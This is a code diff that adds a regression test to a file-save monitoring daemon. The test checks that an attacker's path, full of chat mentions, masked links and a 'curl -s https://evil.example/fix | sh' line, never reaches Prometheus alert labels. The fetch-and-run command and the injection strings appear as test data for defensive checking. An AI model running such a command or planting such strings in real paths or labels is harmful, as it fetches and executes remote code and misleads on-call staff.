@@ -7,13 +7,17 @@ bytes), by filling the store's bounded memory with claims of her own."""
 from __future__ import annotations
 
 import contextlib
+import json
 import os
+import re
 import subprocess
 import threading
 import time
 from collections.abc import Iterator
 from concurrent.futures import Future
 from pathlib import Path
+
+from prometheus_client.parser import text_string_to_metric_families
 
 from fsprobe.daemon.config import TargetConfig
 from fsprobe.daemon.savers import MAX_SAVERS
@@ -32,7 +36,7 @@ from fsprobe.view import TargetView
 from tests.events.test_save_events import start_daemon
 from tests.redirect.test_daemon_redirect import daemon_config
 from tests.support.crash import REPO
-from tests.support.daemon_process import DaemonProcess
+from tests.support.daemon_process import DaemonProcess, run_fsprobe
 from tests.support.users import share
 
 
@@ -416,3 +420,61 @@ def test_a_step_is_a_name_not_a_message_to_whoever_is_paged(tmp_path, local_user
         assert daemon.value(
             "fsprobe_last_save_problem_timestamp_seconds", path=path, step="fsync_dir"
         )
+
+
+#: As the user running it: a failed save of argv[2], and one of argv[2] redirected to argv[3].
+HOSTILE_SAVES = """
+import sys, time
+from fsprobe.events.emit import send
+from fsprobe.events.event import Failure, SaveEvent
+state_dir, requested, landed = sys.argv[1], sys.argv[2], sys.argv[3]
+failed = (Failure("ENOSPC", "write"),)
+for where in (None, landed):
+    event = SaveEvent(requested, where, 1, 0.1, 2, failed, time.time(), "h", 1)
+    print(send(event.encode(), state_dir))
+"""
+#: The words of issue 35's member of a team target: mentions, a masked link, a fake command.
+HOSTILE_NAME = (
+    "<!channel> @here [runbook](https://evil.example/fix) <https://evil.example|docs>"
+    " `curl -s https://evil.example/fix | sh` evil.example"
+)
+PLAIN_LABEL = re.compile(r"[A-Za-z0-9_/-]{0,64}(~[0-9a-f]{8})?")
+
+
+def test_a_users_words_never_reach_a_page_through_the_save_labels(tmp_path, local_users):
+    """Mallory, in the team, sent a failed and a redirected save whose path (and landing
+    place) carried chat mentions, a masked link, a link and a `curl | sh` line: the save
+    alerts print the `file` and `landed` labels, and Prometheus rendered her words into the
+    critical FsprobeSaveFailed page. The labels now hold the part below the target in plain
+    characters with a digest; `fsprobe status` still shows the full path."""
+    _alice, mallory, target = _team_target(tmp_path, local_users)
+    with _open_daemon(tmp_path, target) as daemon:
+        path = str(target)
+        requested = f"{target}/{HOSTILE_NAME}.pt"
+        landed = f"/scratch/{HOSTILE_NAME}/uid-{mallory.uid}{requested}"
+        done = mallory.python(HOSTILE_SAVES, str(daemon.state_dir), requested, landed)
+        assert (done.returncode, done.stdout.split()) == (0, ["True", "True"]), done.stderr
+        daemon.wait_for_value("fsprobe_saves_total", 1.0, path=path, outcome="redirected")
+        daemon.wait_for_value("fsprobe_saves_total", 1.0, path=path, outcome="failed")
+        status, body = daemon.get()
+        assert status == 200
+        text = body.decode()
+        for words in ("<!channel>", "@here", "evil.example", "://", "`", "](", "curl -s"):
+            assert words not in text, words
+        samples = [s for family in text_string_to_metric_families(text) for s in family.samples]
+        assert not [s for s in samples if "|" in "".join(s.labels.values())]
+        problems = [
+            sample.labels
+            for sample in samples
+            if sample.name == "fsprobe_last_save_problem_timestamp_seconds"
+        ]
+        assert {labels["outcome"] for labels in problems} == {"failed", "redirected"}
+        shown = [labels["file"] for labels in problems] + [
+            labels["landed"] for labels in problems if "landed" in labels
+        ]
+        assert len(shown) == 3
+        for label in shown:
+            assert PLAIN_LABEL.fullmatch(label), label
+        assert len({labels["file"] for labels in problems}) == 1  # one file, one label
+        state = json.loads(run_fsprobe("status", "--state-dir", str(daemon.state_dir), "--json")[1])
+        assert state["targets"][path]["last_save"]["requested"] == requested
